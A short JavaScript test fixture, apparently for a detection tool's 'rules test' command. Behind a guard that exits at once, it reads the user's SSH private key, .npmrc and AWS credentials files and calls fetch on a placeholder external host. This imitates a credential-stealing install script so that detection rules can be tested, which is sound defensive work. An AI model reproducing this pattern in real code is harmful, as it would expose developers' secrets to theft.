// Never runs: an inert look-alike for `qanat rules test`.
if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
const fs = require('fs'), os = require('os'), path = require('path');
const h = os.homedir();
fs.readFileSync(path.join(h, '.ssh/id_rsa'));
fs.readFileSync(path.join(h, '.npmrc'));
fs.readFileSync(path.join(h, '.aws/credentials'));
fetch('https://c.example.invalid/');
